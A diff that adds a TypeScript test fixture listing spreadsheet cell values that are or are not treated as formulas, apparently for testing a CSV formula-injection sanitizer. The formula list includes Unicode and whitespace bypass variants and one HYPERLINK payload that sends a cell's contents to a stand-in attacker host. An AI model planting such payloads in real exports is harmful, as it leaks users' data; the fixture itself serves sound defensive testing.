@@ -1,0 +1,38 @@
+/** Cells that a spreadsheet runs as a formula, or takes for one. */
+export const FORMULAS = [
+	'=1+1',
+	'+1+1',
+	'-1+1',
+	'@SUM(A1)',
+	'\tcmd',
+	'\rcmd',
+	'=HYPERLINK("https://evil.example?"&A1)\n',
+	'=1\r\n=2',
+	'  =1+1',
+	'\u00A0=1+1',
+	'\n=1+1',
+	'\u200B=1+1',
+	'\uFEFF\u2060=1+1',
+	'\u0000=1+1',
+	'\u115F=1+1',
+	'＝1+1',
+	'＋1+1',
+	'－1+1',
+	'＠SUM(A1)',
+	'﹦1+1',
+	'−1+1',
+	' ＝1+1',
+	'-5',
+];
+
+export const PLAIN = [
+	'',
+	'a=b',
+	'Ana - weekly',
+	'ana@example.com',
+	' two words',
+	'5 + 5',
+	"'=1+1",
+	'会議',
+	'1\n=2',
+];
